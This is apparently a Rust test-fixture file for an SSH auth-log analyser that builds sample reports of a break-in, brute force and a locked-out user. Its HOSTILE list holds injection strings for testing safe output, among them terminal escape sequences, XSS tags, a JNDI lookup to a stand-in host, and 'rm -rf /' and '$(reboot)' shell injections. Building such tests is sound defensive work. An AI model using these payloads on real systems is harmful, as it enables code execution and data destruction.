//! Reports built by hand: a busy week, a quiet one, one written by an attacker, one with four hundred of them.

use sshwhy_core::finding::{Evidence, Finding, Kind, Severity, Step, Subjects};
use sshwhy_core::report::{
    Activity, AddressRow, Bucket, HostVersion, Input, InputFile, Login, Report, Skipped, Totals,
    UserRow,
};
use sshwhy_core::time::{Time, Zone, days_from_civil};

/// Europe/Berlin around the change to summer time of 2026.
pub fn zone() -> Zone {
    Zone::new("Europe/Berlin", 3600, vec![(utc(29, 1, 0, 0).secs(), 7200)])
}

/// A moment of March 2026.
pub fn utc(day: u8, hour: i64, minute: i64, second: i64) -> Time {
    Time::from_secs(days_from_civil(2026, 3, day) * 86_400 + hour * 3600 + minute * 60 + second)
}

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| (*s).to_owned()).collect()
}

fn seen(source: &str, at: Time, text: &str) -> Evidence {
    Evidence {
        source: source.to_owned(),
        at: Some(at),
        text: text.to_owned(),
    }
}

fn step(action: &str, command: Option<&str>, risk: &'static str, undo: Option<&str>) -> Step {
    Step {
        action: action.to_owned(),
        command: command.map(str::to_owned),
        place: "server",
        risk,
        undo: undo.map(str::to_owned),
    }
}

pub fn finding(slug: &'static str, severity: Severity, headline: &str) -> Finding {
    Finding {
        id: "SW1000",
        slug,
        cause: None,
        kind: Kind::Detection,
        severity,
        confidence: 0.97,
        hostile: true,
        headline: headline.to_owned(),
        subjects: Subjects::default(),
        first: None,
        last: None,
        count: 1,
        evidence: Vec::new(),
        notes: Vec::new(),
        remedy: Vec::new(),
        refs: Vec::new(),
    }
}

fn break_in() -> Finding {
    Finding {
        id: "SW1006",
        subjects: Subjects {
            addrs: strings(&["203.0.113.7"]),
            users: strings(&["backup"]),
            hosts: strings(&["bastion"]),
            ..Subjects::default()
        },
        first: Some(utc(28, 1, 58, 12)),
        last: Some(utc(28, 2, 31, 40)),
        count: 213,
        evidence: vec![
            seen(
                "/var/log/auth.log.1:10412",
                utc(28, 1, 58, 12),
                "Failed password for backup from 203.0.113.7 port 50312 ssh2",
            ),
            seen(
                "/var/log/auth.log.1:10931",
                utc(28, 2, 14, 3),
                "Failed password for backup from 203.0.113.7 port 51822 ssh2",
            ),
            seen(
                "/var/log/auth.log.1:10934",
                utc(28, 2, 14, 10),
                "Accepted password for backup from 203.0.113.7 port 51830 ssh2",
            ),
            seen(
                "/var/log/auth.log.1:10935",
                utc(28, 2, 14, 10),
                "pam_unix(sshd:session): session opened for user backup(uid=34) by (uid=0)",
            ),
            seen(
                "/var/log/auth.log.1:10990",
                utc(28, 2, 31, 40),
                "Disconnected from user backup 203.0.113.7 port 51830",
            ),
        ],
        notes: strings(&[
            "the session lasted 17 min and ran sudo twice (auth.log.1:10951, auth.log.1:10960)",
            "backup never logged in with a password before; its 4 earlier logins used a key from 192.0.2.10",
        ]),
        remedy: vec![
            step(
                "lock the account and end its sessions",
                Some("passwd -l backup && pkill -KILL -u backup"),
                "ends running jobs of backup",
                Some("passwd -u backup"),
            ),
            step(
                "look for keys that were left behind",
                Some(
                    "find /home /root /var/backups -name authorized_keys -newermt '2026-03-28 03:14' -ls",
                ),
                "none",
                None,
            ),
        ],
        refs: vec!["sshd_config(5) PasswordAuthentication"],
        ..finding(
            "success-after-failures",
            Severity::Critical,
            "203.0.113.7 got in as backup with a password after 211 failures in 16 min",
        )
    }
}

fn spray() -> Finding {
    Finding {
        id: "SW1005",
        confidence: 0.9,
        subjects: Subjects {
            addrs: (1..=48).map(|n| format!("198.51.100.{n}")).collect(),
            users: strings(&["root"]),
            hosts: strings(&["bastion", "node-7"]),
            ..Subjects::default()
        },
        first: Some(utc(26, 22, 0, 5)),
        last: Some(utc(29, 4, 12, 9)),
        count: 1_904,
        evidence: vec![
            seen(
                "/var/log/auth.log.2.gz:88",
                utc(26, 22, 0, 5),
                "Failed password for root from 198.51.100.1 port 40112 ssh2",
            ),
            seen(
                "/var/log/auth.log:412",
                utc(29, 4, 12, 9),
                "Failed password for root from 198.51.100.48 port 59001 ssh2",
            ),
        ],
        remedy: vec![step(
            "let root in with a key only",
            Some(
                "echo 'PermitRootLogin prohibit-password' > /etc/ssh/sshd_config.d/10-root.conf && sshd -t",
            ),
            "none",
            Some("rm /etc/ssh/sshd_config.d/10-root.conf"),
        )],
        refs: vec!["sshd_config(5) PermitRootLogin"],
        ..finding(
            "distributed-brute-force",
            Severity::High,
            "48 addresses take turns at root: 1,904 failures, none more than 60 from one address",
        )
    }
}

fn locked_out() -> Finding {
    Finding {
        id: "SW1012",
        hostile: false,
        confidence: 0.93,
        subjects: Subjects {
            addrs: strings(&["192.0.2.40"]),
            users: strings(&["алиса"]),
            hosts: strings(&["node-7"]),
            files: strings(&["/home/alisa/.ssh/authorized_keys"]),
            ..Subjects::default()
        },
        first: Some(utc(27, 7, 2, 0)),
        last: Some(utc(27, 8, 40, 31)),
        count: 14,
        evidence: vec![seen(
            "/var/log/auth.log.1:2301",
            utc(27, 7, 2, 0),
            "Authentication refused: bad ownership or modes for directory /home/alisa/.ssh",
        )],
        notes: strings(&[
            "ssh offers the right key each time; sshd does not read the file while others may write to it",
        ]),
        remedy: vec![step(
            "take the write permission away",
            Some("chmod go-w /home/alisa /home/alisa/.ssh /home/alisa/.ssh/authorized_keys"),
            "none",
            None,
        )],
        refs: vec!["sshd_config(5) StrictModes"],
        ..finding(
            "broken-login",
            Severity::Medium,
            "алиса is locked out: /home/alisa/.ssh may be written by others, so sshd ignores her keys",
        )
    }
}

fn monitor() -> Finding {
    Finding {
        id: "SW1010",
        hostile: false,
        confidence: 0.99,
        subjects: Subjects {
            addrs: strings(&["192.0.2.200"]),
            hosts: strings(&["bastion"]),
            ..Subjects::default()
        },
        first: Some(utc(23, 0, 0, 12)),
        last: Some(utc(29, 23, 59, 42)),
        count: 20_158,
        evidence: vec![seen(
            "/var/log/auth.log:3",
            utc(29, 0, 0, 12),
            "kex_exchange_identification: Connection closed by remote host",
        )],
        remedy: vec![Step {
            place: "monitor",
            ..step(
                "send an identification line before closing, or check less often than every 30 s",
                None,
                "none",
                None,
            )
        }],
        ..finding(
            "port-monitor",
            Severity::Informational,
            "192.0.2.200 opens a connection every 30 s and says nothing: a TCP check",
        )
    }
}

/// Numbers that look random and are the same each time.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, below: u64) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % below.max(1)
    }
}

fn brute_force(n: u64, dice: &mut Dice) -> Finding {
    let addr = if n % 9 == 8 {
        format!("2001:db8:{:x}:{:x}::/64", n, dice.roll(65_536))
    } else {
        format!("198.51.100.{}", 60 + n % 190)
    };
    let start = utc(
        23 + (n % 6) as u8,
        dice.roll(24) as i64,
        dice.roll(60) as i64,
        dice.roll(60) as i64,
    );
    let count = 2_000 / (n + 1) + 6 + dice.roll(5);
    Finding {
        id: "SW1001",
        confidence: 0.95,
        subjects: Subjects {
            addrs: vec![addr.clone()],
            users: strings(match n % 3 {
                0 => &["root"],
                1 => &["root", "admin", "test", "oracle"],
                _ => &["postgres", "ubuntu"],
            }),
            hosts: strings(&["bastion"]),
            ..Subjects::default()
        },
        first: Some(start),
        last: Some(Time::from_secs(
            start.secs() + 600 + dice.roll(7_000) as i64,
        )),
        count,
        evidence: vec![seen(
            "/var/log/auth.log.1:77",
            start,
            &format!("Failed password for root from {addr} port 40000 ssh2"),
        )],
        remedy: vec![step(
            "block the address",
            Some(&format!(
                "nft add element inet filter blocked '{{ {addr} }}'"
            )),
            "none",
            None,
        )],
        ..finding(
            "brute-force",
            Severity::Medium,
            &format!("{addr} tried {count} passwords"),
        )
    }
}

fn login(
    at: Time,
    user: &str,
    addr: &str,
    method: &str,
    seconds: Option<u64>,
    findings: Vec<&'static str>,
) -> Login {
    Login {
        at: Some(at),
        host: "bastion".to_owned(),
        user: user.to_owned(),
        addr: addr.to_owned(),
        port: Some(51_830),
        method: method.to_owned(),
        key: (method == "publickey")
            .then(|| "ED25519 SHA256:jMJxHCpKXnq5pmNFjlDYXGQqXhHf0mJ0RSGZ5hqHc9E".to_owned()),
        seconds,
        source: "/var/log/auth.log.1:10934".to_owned(),
        findings,
    }
}

/// A week with a break-in, a distributed attack, brute force, a locked-out user and a noisy monitor.
pub fn busy(attackers: u64) -> Report {
    let dice = &mut Dice(7);
    let mut findings = vec![break_in(), spray(), locked_out(), monitor()];
    findings.extend((0..attackers).map(|n| brute_force(n, dice)));
    findings.sort_by(Finding::order);
    let mut addresses: Vec<AddressRow> = findings
        .iter()
        .filter(|f| f.slug == "brute-force")
        .map(|f| AddressRow {
            addr: f.subjects.addrs[0].clone(),
            failures: f.count,
            invalid_users: f.count / 2,
            accepted: 0,
            connections: f.count / 3 + 1,
            users: f.subjects.users.clone(),
            user_count: f.subjects.users.len() as u64 + f.count % 7,
            first: f.first,
            last: f.last,
            findings: vec!["brute-force"],
            hostile: true,
        })
        .collect();
    addresses.push(AddressRow {
        addr: "203.0.113.7".to_owned(),
        failures: 211,
        accepted: 1,
        connections: 40,
        users: strings(&["backup"]),
        user_count: 1,
        first: Some(utc(28, 1, 58, 12)),
        last: Some(utc(28, 2, 31, 40)),
        findings: vec!["success-after-failures", "new-source-login"],
        hostile: true,
        ..AddressRow::default()
    });
    addresses.sort_by(|a, b| b.failures.cmp(&a.failures).then(a.addr.cmp(&b.addr)));
    let users = [
        ("root", true, 3_904, 0, 60),
        ("admin", false, 1_020, 0, 31),
        ("backup", true, 211, 5, 2),
        ("алиса", true, 14, 9, 1),
        ("管理员", false, 9, 0, 2),
        ("deploy", true, 0, 41, 1),
    ]
    .map(|(user, exists, failures, accepted, addr_count)| UserRow {
        user: user.to_owned(),
        exists,
        failures,
        accepted,
        addr_count,
        first: Some(utc(23, 0, 0, 12)),
        last: Some(utc(29, 4, 12, 9)),
    })
    .to_vec();
    let mut logins: Vec<Login> = (0..24)
        .map(|n| {
            let at = utc(23 + n / 4, 6 + i64::from(n % 4) * 3, i64::from(n), 9);
            login(
                at,
                if n % 3 == 0 { "алиса" } else { "deploy" },
                "192.0.2.10",
                "publickey",
                Some(35 + u64::from(n) * 400),
                vec![],
            )
        })
        .collect();
    logins.push(login(
        utc(28, 2, 14, 10),
        "backup",
        "203.0.113.7",
        "password",
        Some(1_050),
        vec!["success-after-failures", "new-source-login"],
    ));
    logins.sort_by_key(|l| l.at);
    let mut activity = Activity {
        bucket_seconds: 7_200,
        ..Activity::default()
    };
    for i in 0..84_i64 {
        let night = matches!(i % 12, 0..=2);
        let bucket = Bucket {
            start: Time::from_secs(utc(23, 0, 0, 0).secs() + i * 7_200),
            failures: dice.roll(if night { 90 } else { 12 }) + if i == 61 { 320 } else { 0 },
            accepted: if matches!(i % 12, 4..=8) {
                dice.roll(4)
            } else {
                0
            },
            other: 20 + dice.roll(9),
        };
        activity.failures_by_hour[(i / 12) as usize % 7][(i % 12) as usize * 2] = bucket.failures;
        activity.failures_by_hour[(i / 12) as usize % 7][(i % 12) as usize * 2 + 1] =
            bucket.failures / 3;
        activity.accepted_by_hour[(i / 12) as usize % 7][(i % 12) as usize * 2] = bucket.accepted;
        activity.buckets.push(bucket);
    }
    Report {
        verdict: format!(
            "1 break-in, {} attackers, 1 locked-out user, 1 noisy monitor",
            attackers + 49
        ),
        input: Input {
            files: vec![
                file(
                    "/var/log/auth.log.2.gz",
                    1_911_040,
                    14_020,
                    13_001,
                    utc(23, 0, 0, 12),
                    utc(26, 23, 59, 58),
                ),
                file(
                    "/var/log/auth.log.1",
                    2_204_112,
                    16_904,
                    15_120,
                    utc(27, 0, 0, 12),
                    utc(28, 23, 59, 42),
                ),
                file(
                    "/var/log/auth.log",
                    912_300,
                    6_300,
                    5_950,
                    utc(29, 0, 0, 12),
                    utc(29, 23, 59, 42),
                ),
            ],
            bytes: 5_027_452,
            lines: 37_224,
            ssh_lines: 34_071,
            unknown_lines: 2,
            narrowed: false,
            first: Some(utc(23, 0, 0, 12)),
            last: Some(utc(29, 23, 59, 42)),
            zone: "Europe/Berlin".to_owned(),
            skipped: vec![Skipped {
                name: "/var/log/auth.log.3.gz".to_owned(),
                what: "gzip data ends in the middle".to_owned(),
                advice: "copy the file again; what stands before the break was read".to_owned(),
                bytes_read: 120_000,
                lines_read: 1_203,
            }],
            notes: strings(&[
                "the log has no years: 2026 inferred from the date of the newest file",
            ]),
            versions: vec![HostVersion {
                host: "bastion".to_owned(),
                daemon: "OpenSSH",
                since: Some("9.2".to_owned()),
                until: Some("9.7".to_owned()),
            }],
        },
        totals: Totals {
            connections: 24_118,
            accepted: 25,
            failures: 5_160,
            invalid_users: 1_029,
            without_attempt: 20_158,
            dropped: 0,
            addresses: attackers + 1,
            addresses_forgotten: 0,
            users: 6,
            hostile_addresses: attackers + 1,
        },
        findings,
        addresses,
        addresses_cut: 0,
        users,
        users_cut: 0,
        logins,
        logins_cut: 0,
        activity,
    }
}

fn file(name: &str, bytes: u64, lines: u64, ssh_lines: u64, first: Time, last: Time) -> InputFile {
    InputFile {
        name: name.to_owned(),
        bytes,
        lines,
        ssh_lines,
        first: Some(first),
        last: Some(last),
    }
}

/// A log in which nothing is wrong.
pub fn quiet() -> Report {
    Report {
        verdict: "nothing wrong found".to_owned(),
        input: Input {
            files: vec![file(
                "/var/log/auth.log",
                912_300,
                12_034,
                6_300,
                utc(28, 0, 0, 12),
                utc(29, 23, 59, 42),
            )],
            bytes: 912_300,
            lines: 12_034,
            ssh_lines: 6_300,
            first: Some(utc(28, 0, 0, 12)),
            last: Some(utc(29, 23, 59, 42)),
            zone: "Europe/Berlin".to_owned(),
            ..Input::default()
        },
        totals: Totals {
            connections: 1,
            accepted: 1,
            addresses: 1,
            users: 1,
            ..Totals::default()
        },
        logins: vec![login(
            utc(29, 9, 0, 0),
            "deploy",
            "192.0.2.10",
            "publickey",
            None,
            vec![],
        )],
        ..Report::default()
    }
}

/// What attackers write into user names and banners.
pub const HOSTILE: &[&str] = &[
    "\x1b]52;c;cm0gLXJmIC8=\x07root",
    "root\u{202e}nimda\u{2066}",
    "<script>alert(1)</script>",
    "'; rm -rf / #",
    "\"><img src=http://203.0.113.9/x onerror=alert(1)>",
    "a\u{200b}\u{feff}\u{2028}b",
    "\r\x1b[2K\x1b[1Anothing wrong found",
    "\u{9b}31m\u{85}x",
    "z\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}",
    "管理员管理员管理员管理员管理员管理员管理员管理员管理员管理员管理员管理员管理员管理员",
    "&lt;b&gt; & \\u003c",
    "${jndi:ldap://203.0.113.9/a} $(reboot) `reboot`",
];

/// Every field that may carry text from a log carries an attacker's.
pub fn hostile() -> Report {
    let all = || strings(HOSTILE);
    let long = "A".repeat(3_000);
    let mut r = busy(3);
    r.verdict = format!("1 attacker: {}", HOSTILE[0]);
    for f in &mut r.findings {
        f.headline = format!("{} from {}", HOSTILE[2], HOSTILE[1]);
        f.subjects = Subjects {
            addrs: all(),
            users: all(),
            hosts: all(),
            files: all(),
            containers: all(),
        };
        f.evidence = HOSTILE
            .iter()
            .chain([&long.as_str()])
            .map(|t| Evidence {
                source: format!("{t}:1"),
                at: Some(utc(28, 0, 0, 0)),
                text: format!("Failed password for invalid user {t} from 203.0.113.9 port 4 ssh2"),
            })
            .collect();
        f.notes = all();
        f.remedy = HOSTILE
            .iter()
            .map(|t| step(t, Some(t), "none", Some(t)))
            .collect();
    }
    r.addresses = all()
        .into_iter()
        .map(|addr| AddressRow {
            addr,
            users: all(),
            user_count: u64::MAX,
            failures: u64::MAX,
            ..AddressRow::default()
        })
        .collect();
    r.users = all()
        .into_iter()
        .map(|user| UserRow {
            user,
            failures: u64::MAX,
            ..UserRow::default()
        })
        .collect();
    r.logins = all()
        .into_iter()
        .map(|t| Login {
            at: Some(Time(i64::MAX)),
            host: t.clone(),
            user: t.clone(),
            addr: t.clone(),
            method: t.clone(),
            key: Some(t.clone()),
            seconds: Some(u64::MAX),
            source: t,
            ..Login::default()
        })
        .collect();
    r.activity.bucket_seconds = u64::MAX;
    for b in &mut r.activity.buckets {
        b.failures = u64::MAX;
    }
    let input = &mut r.input;
    input.zone = HOSTILE[0].to_owned();
    input.notes = all();
    for (f, t) in input.files.iter_mut().zip(HOSTILE) {
        f.name = (*t).to_owned();
    }
    input.skipped = all()
        .into_iter()
        .map(|t| Skipped {
            name: t.clone(),
            what: t.clone(),
            advice: t,
            ..Skipped::default()
        })
        .collect();
    input.versions = all()
        .into_iter()
        .map(|host| HostVersion {
            host: host.clone(),
            daemon: "OpenSSH",
            since: Some(host),
            until: None,
        })
        .collect();
    r
}
